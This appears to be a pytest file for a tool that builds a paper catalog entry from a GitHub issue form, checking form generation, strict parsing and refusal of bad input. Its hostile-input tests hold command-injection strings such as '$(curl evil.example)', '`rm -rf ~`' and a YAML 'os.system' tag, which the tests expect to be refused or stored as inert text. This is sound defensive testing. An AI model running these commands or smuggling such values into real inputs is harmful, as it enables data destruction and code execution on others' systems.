"""The 'Add an entry' issue form (generated from the schema and the categories) and `add --from-issue`,
with hostile issue bodies: nothing changes but the intended entry."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from curate_support import REPO, snapshot

from awesome_approx.contribute.issue_form import FORM_PATH, IssueBodyError, parse_issue_body, render_form
from awesome_approx.validate import load_catalog
from awesome_approx.validate.schema import entry_schema
from fakes.arxiv import FakeArxiv, Paper

# Facts as data/entries/guo2020accelerating.yaml states them (not among the test entries).
GUO = Paper("Accelerating Sparse DNN Models without Hardware-Support via Tile-Wise Sparsity",
            ("Cong Guo", "Bo Yang Hsueh", "Jingwen Leng", "Yuxian Qiu", "Yue Guan", "Zehuan Wang",
             "Xiaoying Jia", "Xipeng Li", "Minyi Guo", "Yuhao Zhu"), published="2020-08-31")
OPTION = "structured-hardware-friendly (Approximation Methods / Pruning / Structured - Hardware Friendly Structure)"


def body(identifier: str = "2008.13006", category: str = OPTION,
         description: str = "Keeps a regular sparsity pattern per tile, so pruned models run fast on GPUs.",
         tags: str = "pruning, gpu") -> str:
    return (f"### Identifier or link\n\n{identifier}\n\n### Category\n\n{category}\n\n"
            f"### Description\n\n{description}\n\n### Tags\n\n{tags}\n")


def test_committed_form_is_what_the_schema_and_categories_give() -> None:
    catalog = load_catalog(REPO / "data").catalog
    assert (REPO / FORM_PATH).read_text("utf-8") == render_form(catalog, entry_schema())


def test_form_follows_the_category_tree_and_the_schema(data: Path) -> None:
    path = data / "categories.yaml"
    path.write_text(path.read_text("utf-8") + "- id: brand-new\n  title: Brand New\n", "utf-8")
    schema = entry_schema()
    schema = {**schema, "properties": {**schema["properties"],
                                       "description": {"description": "Changed schema text."}}}
    form = yaml.safe_load(render_form(load_catalog(data).catalog, schema))
    fields = {item.get("id"): item for item in form["body"]}
    assert fields["category"]["attributes"]["options"][-1] == "brand-new (Brand New)"
    assert fields["description"]["attributes"]["description"].startswith("Changed schema text.")
    assert form["labels"] == ["add-entry"] and fields["identifier"]["validations"]["required"] is True


def test_issue_form_check_fails_when_stale(cli, data: Path, tmp_path: Path, monkeypatch) -> None:
    (tmp_path / "pyproject.toml").write_text((REPO / "pyproject.toml").read_text("utf-8"), "utf-8")
    monkeypatch.chdir(tmp_path)
    assert cli("issue-form", "--check").code == 1  # no form yet
    assert cli("issue-form").code == 0 and (tmp_path / FORM_PATH).is_file()
    assert cli("issue-form", "--check").code == 0
    path = data / "categories.yaml"
    path.write_text(path.read_text("utf-8") + "- id: brand-new\n  title: Brand New\n", "utf-8")
    stale = cli("issue-form", "--check")
    assert stale.code == 1 and "+    - brand-new (Brand New)" in stale.out


def test_the_body_is_read_strictly() -> None:
    answers = parse_issue_body(body(tags="_No response_").replace("\n", "\r\n"))
    assert (answers.identifier, answers.category, answers.tags) == ("2008.13006", OPTION, ())
    with pytest.raises(IssueBodyError, match="twice"):
        parse_issue_body(body(description="Fine.\n\n### Tags\n\nevil"))
    with pytest.raises(IssueBodyError, match="lacks"):
        parse_issue_body("### Identifier or link\n\n2008.13006\n")


@pytest.fixture
def arxiv_fake(monkeypatch):
    with FakeArxiv({"2008.13006": GUO}) as server:
        monkeypatch.setenv("AWESOME_APPROX_ARXIV_API", server.url)
        yield server


def from_issue(cli, tmp_path: Path, text: str):
    issue, reply = tmp_path / "issue.md", tmp_path / "reply.md"
    issue.write_text(text, "utf-8")
    ran = cli("add", "--from-issue", str(issue), "--message-file", str(reply))
    return ran, reply.read_text("utf-8")


def test_an_issue_becomes_one_entry(cli, data: Path, tmp_path: Path, arxiv_fake) -> None:
    before = snapshot(data)
    ran, reply = from_issue(cli, tmp_path, body())
    assert ran.code == 0, ran.err
    created = {k for k in snapshot(data) if k not in before}
    assert created == {"entries/guo2020accelerating.yaml"} and all(snapshot(data)[k] == v for k, v in before.items())
    entry = yaml.safe_load((data / "entries" / "guo2020accelerating.yaml").read_text("utf-8"))
    assert entry["title"] == GUO.title and entry["category"] == "structured-hardware-friendly"
    assert entry["tags"] == ["pruning", "gpu"] and entry["description"].startswith("Keeps a regular")
    assert "guo2020accelerating.yaml" in reply
    assert cli("validate").code == 0


HOSTILE_DESCRIPTION = ('Uses $(touch /tmp/pwned) and `rm -rf ~`; "quotes", \'single\', \\backslash, '
                       "key: value, - item, &anchor *alias !!python/object:os.system {a: b} [x] # not a comment.")


def test_hostile_text_lands_as_text_in_the_one_entry(cli, data: Path, tmp_path: Path, arxiv_fake) -> None:
    before = snapshot(data)
    ran, _ = from_issue(cli, tmp_path, body(description=HOSTILE_DESCRIPTION))
    assert ran.code == 0, ran.err
    after = snapshot(data)
    assert set(after) - set(before) == {"entries/guo2020accelerating.yaml"}
    assert all(after[k] == v for k, v in before.items())
    entry = yaml.safe_load(after["entries/guo2020accelerating.yaml"])
    assert entry["description"] == HOSTILE_DESCRIPTION and set(entry) == {
        "title", "url", "category", "year", "authors", "arxiv", "description", "tags", "added"}


@pytest.mark.parametrize(("answers", "message"), [
    ({"identifier": "2008.13006; touch /tmp/pwned"}, "is not an arXiv id"),
    ({"identifier": "$(curl evil.example)"}, "is not an arXiv id"),
    ({"category": "no-such-category"}, "unknown category"),
    ({"category": "_No response_"}, "no category"),
    ({"description": "_No response_"}, "description is missing"),
    ({"description": "lower case start and no period"}, "capital letter"),
    ({"description": "A" * 5000 + "."}, "is too long"),
    ({"tags": "UPPER, $(x)"}, "do not make a valid entry"),
    ({"identifier": "1901.06955"}, "entry 'wang2019deep'"),  # already listed: the reply names it
])
def test_refusals_write_nothing_and_say_why(cli, data: Path, tmp_path: Path, arxiv_fake, answers, message) -> None:
    before = snapshot(data)
    ran, reply = from_issue(cli, tmp_path, body(**answers))
    assert ran.code != 0
    assert message in reply and message in ran.err
    assert snapshot(data) == before
    assert reply.startswith("Nothing was added") and "```" in reply


def test_a_very_long_body_is_refused(cli, data: Path, tmp_path: Path, arxiv_fake) -> None:
    before = snapshot(data)
    ran, reply = from_issue(cli, tmp_path, body(description="Long. " * 20000))
    assert ran.code == 1 and "longer than" in reply
    assert snapshot(data) == before and arxiv_fake.queries == []


def test_the_body_cannot_smuggle_markdown_into_the_reply(cli, data: Path, tmp_path: Path, arxiv_fake) -> None:
    ran, reply = from_issue(cli, tmp_path, body(category="@maintainers ```` ![x](https://evil.example/x.png)"))
    assert ran.code != 0
    fence = reply.split("\n")[2]
    assert set(fence.removesuffix("text")) == {"`"} and len(fence.removesuffix("text")) > 4  # longer than any run
